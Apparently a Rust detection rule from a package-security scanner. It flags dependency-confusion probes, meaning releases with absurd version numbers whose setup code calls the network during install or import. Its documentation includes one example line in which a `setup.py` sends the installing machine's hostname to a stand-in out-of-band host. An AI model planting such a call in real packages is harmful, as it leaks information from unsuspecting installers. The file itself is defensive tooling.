//! # An absurd version calls home
//!
//! ## What it finds
//! A release whose version number comes out of nowhere (`99.0.0`) and whose code reaches the network while it is installed
//! or imported.
//!
//! ## Why it matters
//! The two together are dependency confusion: the number outbids an internal package of the same name, the call reports
//! whom it hit.
//!
//! ## Example
//! `internal-tool 99.99.1` with `requests.get("https://x.oast.example/" + hostname)` in `setup.py`.
//!
//! ## What to do
//! Find out which of your builds asked a public index for an internal name, and pin its index.
//!
//! ## When it is wrong
//! Packages numbered by build or date. None of the benign development set fires.
use foretaste_engine::prelude::*;

use super::support::lines_of_programs;
use crate::code;
use crate::publisher::is_absurd;

declare_rule! {
    DependencyConfusionProbe,
    id: "dependency-confusion-probe",
    title: "outbids an internal package and calls home",
    group: Install,
    severity: Critical,
    confidence: High,
    needs: [Code],
    tags: ["T1195.002", "AV-509"],
    options: [
        { "major", 90.0, "", "major versions from here on are absurd" },
        { "lines", 5000.0, "lines", "packages with more lines of code are applications of their own, no probes" }
    ],
    since: "0.1.0",
}

impl ReleaseRule for DependencyConfusionProbe {
    fn judge(&self, scene: &Scene<'_>) -> Vec<Finding> {
        let Some(release) = scene.release else {
            return Vec::new();
        };
        let limit = scene.option(self.meta(), "major") as u64;
        if !is_absurd(scene, &release.version, limit) {
            return Vec::new();
        }
        let most = scene.option(self.meta(), "lines") as u32;
        if scene
            .artifacts
            .iter()
            .any(|a| lines_of_programs(a, |_| true) > most)
        {
            return Vec::new();
        }
        for file in scene.files() {
            let talks = |u: &&Use| {
                (code::talks(u) || code::spawns(u))
                    && file.context(u.function) <= ExecutionContext::Import
            };
            let Some(used) = file.facts.uses.iter().find(talks) else {
                continue;
            };
            let context = file.context(used.function);
            let mut finding = self
                .finding(format!(
                    "version {} outbids an internal package, and its code reaches out {}",
                    release.version,
                    context.phrase()
                ))
                .context(context)
                .evidence(file.use_evidence(used, EvidenceRole::Sink, &*used.api));
            if !code::talks(used) {
                finding = finding.confidence(Confidence::Medium);
            }
            return vec![finding];
        }
        Vec::new()
    }
}
